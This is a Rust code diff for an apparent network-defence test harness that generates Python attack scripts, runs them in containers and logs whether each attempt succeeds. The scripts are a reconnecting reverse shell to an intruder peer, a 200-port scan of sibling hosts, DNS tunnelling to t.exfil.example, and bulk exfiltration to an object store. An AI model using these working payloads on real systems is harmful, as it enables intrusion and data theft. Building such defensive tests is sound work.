@@ -12,8 +12,10 @@ use std::{
         atomic::{AtomicBool, AtomicU64, Ordering},
     },
     thread::{self, JoinHandle},
-    time::{Duration, Instant},
+    time::{Duration, SystemTime},
 };
+
+use serde_json::Value;
 
 use crate::{
     error::{HarnessError, io},
@@ -29,55 +31,142 @@ pub const TUNNEL_DOMAIN: &str = "t.exfil.example";
 /// How much the bulk exfiltration sends.
 pub const EXFILTRATION_BYTES: u64 = 50 * 1024 * 1024;
 
-/// A shell with its streams on a connection to a peer that was never seen.
-pub fn reverse_shell(peer: Ipv4Addr) -> String {
-    format!(
-        "import os, socket, subprocess\n\
-         s = socket.create_connection(('{peer}', {SHELL_PORT}), 5)\n\
-         s.settimeout(None)\n\
-         subprocess.run(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s, timeout=120)\n"
-    )
+/// What every attack begins with: a way to tell how it fares, on the container's own standard output.
+///
+/// An attack stops by itself: after a while, or soon after it is refused.
+const PREAMBLE: &str = "\
+import errno, json, os, socket, subprocess, time
+def tell(attack, ok, cause=''):
+    print(json.dumps({'attack': attack, 'unix_ms': int(time.time() * 1000), 'ok': ok, 'cause': cause}), flush=True)
+def attempts(attack, times, pause, attempt):
+    refused = 0
+    for number in range(times):
+        try:
+            attempt(number)
+            ok, cause = True, ''
+        except OSError as error:
+            ok, cause = False, errno.errorcode.get(error.errno, str(error))
+        refused = 0 if ok else refused + 1
+        tell(attack, ok, cause)
+        if refused == 5:
+            break
+        time.sleep(pause)
+";
+
+/// An attack, by what it does.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Attack {
+    /// Fifty megabytes to the object store that the app always used, in the app's own way.
+    BulkExfiltration,
+    /// Connections to two hundred ports of each sibling.
+    PortScan,
+    /// Questions whose names carry data, through the resolver that the app always used.
+    DnsTunnel,
+    /// A shell with its streams on a connection to a peer that was never seen; tries again when it is cut off.
+    ReverseShell,
 }
 
-/// Connections to 200 ports of each sibling.
-pub fn port_scan(siblings: &[Ipv4Addr]) -> String {
-    let siblings: Vec<_> = siblings.iter().map(|ip| format!("'{ip}'")).collect();
-    format!(
-        "import socket\n\
-         for ip in [{}]:\n\
-         \x20   for port in range(1, 201):\n\
-         \x20       s = socket.socket()\n\
-         \x20       s.settimeout(0.05)\n\
-         \x20       s.connect_ex((ip, port))\n\
-         \x20       s.close()\n",
-        siblings.join(", ")
-    )
+impl Attack {
+    /// Its name in its reports.
+    pub const fn name(self) -> &'static str {
+        match self {
+            Self::BulkExfiltration => "bulk exfiltration",
+            Self::PortScan => "port scan",
+            Self::DnsTunnel => "DNS tunnel",
+            Self::ReverseShell => "reverse shell",
+        }
+    }
+
+    /// Its code. `peer` is the intruder's own machine; `siblings` are what a scan looks at.
+    pub fn code(self, peer: Ipv4Addr, siblings: &[Ipv4Addr]) -> String {
+        let name = self.name();
+        let siblings: Vec<_> = siblings.iter().map(|ip| format!("'{ip}'")).collect();
+        let siblings = siblings.join(", ");
+        let part = EXFILTRATION_BYTES / 25;
+        let body = match self {
+            Self::BulkExfiltration => format!(
+                "import http.client\n\
+                 def send(number):\n\
+                 \x20   store = http.client.HTTPConnection('store', 9000, timeout=2)\n\
+                 \x20   store.request('PUT', '/backup-%d' % number, os.urandom({part}))\n\
+                 \x20   store.getresponse().read()\n\
+                 \x20   store.close()\n\
+                 attempts('{name}', 40, 0.4, send)\n"
+            ),
+            Self::PortScan => format!(
+                "def knock(ip, port):\n\
+                 \x20   with socket.socket() as s:\n\
+                 \x20       s.settimeout(0.5)\n\
+                 \x20       try:\n\
+                 \x20           s.connect((ip, port))\n\
+                 \x20       except ConnectionRefusedError:\n\
+                 \x20           pass\n\
+                 def sweep(number):\n\
+                 \x20   ports = range(1, 201) if number == 0 else [201 + number]\n\
+                 \x20   for ip in [{siblings}]:\n\
+                 \x20       for port in ports:\n\
+                 \x20           knock(ip, port)\n\
+                 attempts('{name}', 20, 1, sweep)\n"
+            ),
+            Self::DnsTunnel => format!(
+                "def ask(number):\n\
+                 \x20   name = '%s.%s.{TUNNEL_DOMAIN}' % (os.urandom(28).hex(), os.urandom(16).hex())\n\
+                 \x20   socket.getaddrinfo(name, 80, socket.AF_INET)\n\
+                 attempts('{name}', 300, 0.04, ask)\n"
+            ),
+            Self::ReverseShell => format!(
+                "deadline = time.monotonic() + 150\n\
+                 told = None\n\
+                 while time.monotonic() < deadline:\n\
+                 \x20   try:\n\
+                 \x20       with socket.create_connection(('{peer}', {SHELL_PORT}), 1) as s:\n\
+                 \x20           s.settimeout(None)\n\
+                 \x20           tell('{name}', True)\n\
+                 \x20           told = None\n\
+                 \x20           subprocess.run(['/bin/sh'], stdin=s, stdout=s, stderr=s, timeout=8)\n\
+                 \x20   except subprocess.TimeoutExpired:\n\
+                 \x20       pass\n\
+                 \x20   except OSError as error:\n\
+                 \x20       cause = errno.errorcode.get(error.errno, str(error))\n\
+                 \x20       if cause != told:\n\
+                 \x20           tell('{name}', False, cause)\n\
+                 \x20       told = cause\n\
+                 \x20   time.sleep(0.2)\n"
+            ),
+        };
+        format!("{PREAMBLE}{body}")
+    }
 }
 
-/// Fifty megabytes to the object store that the app always used, in the app's own way.
-pub fn bulk_exfiltration() -> String {
-    format!(
-        "import os, time\n\
-         for part in range(25):\n\
-         \x20   put('backup-%d' % part, os.urandom({}))\n\
-         \x20   time.sleep(0.1)\n",
-        EXFILTRATION_BYTES / 25
-    )
+/// What an attack said about one of its attempts.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Attempt {
+    /// When, since the epoch.
+    pub unix_ms: u64,
+    /// Whether it got through.
+    pub ok: bool,
+    /// The error that the attack got; empty when it got through.
+    pub cause: String,
 }
 
-/// Questions whose names carry data, through the resolver that the app always used.
-pub fn dns_tunnel() -> String {
-    format!(
-        "import os, socket, time\n\
-         for part in range(300):\n\
-         \x20   name = '%s.%s.{TUNNEL_DOMAIN}' % (os.urandom(28).hex(), os.urandom(16).hex())\n\
-         \x20   try:\n\
-         \x20       socket.getaddrinfo(name, 80, socket.AF_INET)\n\
-         \x20   except OSError:\n\
-         \x20       pass\n\
-         \x20   time.sleep(0.03)\n"
-    )
+/// What an attack said about its attempts, from the standard output of its container.
+pub fn attempts(attack: Attack, output: &str) -> Vec<Attempt> {
+    output
+        .lines()
+        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
+        .filter(|line| line["attack"] == attack.name())
+        .filter_map(|line| {
+            Some(Attempt {
+                unix_ms: line["unix_ms"].as_u64()?,
+                ok: line["ok"].as_bool()?,
+                cause: line["cause"].as_str()?.to_owned(),
+            })
+        })
+        .collect()
 }
+
+/// Why a lock is never poisoned here.
+const UNPOISONED: &str = "no thread panics with the lock in hand";
 
 /// Takes the reverse shell's connection and sends it harmless commands, one a second.
 #[derive(Debug)]
@@ -89,8 +178,8 @@ pub struct Listener {
 #[derive(Debug, Default)]
 struct ListenerState {
     closing: AtomicBool,
-    connections: AtomicU64,
-    answers: Mutex<Vec<(Instant, String)>>,
+    arrivals: Mutex<Vec<SystemTime>>,
+    answers: Mutex<Vec<(SystemTime, String)>>,
 }
 
 impl Listener {
@@ -106,23 +195,25 @@ impl Listener {
         let thread = thread::spawn(move || {
             while !shared.closing.load(Ordering::Relaxed) {
                 if let Ok((stream, _)) = listener.accept() {
-                    shared.connections.fetch_add(1, Ordering::Relaxed);
-                    converse(stream, &shared);
+                    shared.arrivals.lock().expect(UNPOISONED).push(SystemTime::now());
+                    // A shell that was cut off stays silent for long; the next one must not wait for it.
+                    let shared = Arc::clone(&shared);
+                    thread::spawn(move || converse(stream, &shared));
                 }
-                thread::sleep(Duration::from_millis(20));
+                thread::sleep(Duration::from_millis(10));
             }
         });
         Ok(Self { state, thread: Some(thread) })
     }
 
-    /// How many connections reached it.
-    pub fn connections(&self) -> u64 {
-        self.state.connections.load(Ordering::Relaxed)
+    /// When connections reached it.
+    pub fn arrivals(&self) -> Vec<SystemTime> {
+        self.state.arrivals.lock().expect(UNPOISONED).clone()
     }
 
-    /// What the shell answered, and when.
-    pub fn answers(&self) -> Vec<(Instant, String)> {
-        self.state.answers.lock().expect("no thread panics with the answers in hand").clone()
+    /// What shells answered, and when.
+    pub fn answers(&self) -> Vec<(SystemTime, String)> {
+        self.state.answers.lock().expect(UNPOISONED).clone()
     }
 }
 
@@ -155,11 +246,7 @@ fn converse(mut stream: std::net::TcpStream, state: &ListenerState) {
             Ok(0) => return,
             Ok(length) => {
                 let text = String::from_utf8_lossy(&answer[..length]).trim().to_owned();
-                state
-                    .answers
-                    .lock()
-                    .expect("no thread panics with the answers in hand")
-                    .push((Instant::now(), text));
+                state.answers.lock().expect(UNPOISONED).push((SystemTime::now(), text));
             }
             // Silence: the packets are dropped. Go on asking, so that a lease's end is seen as well.
             Err(error)
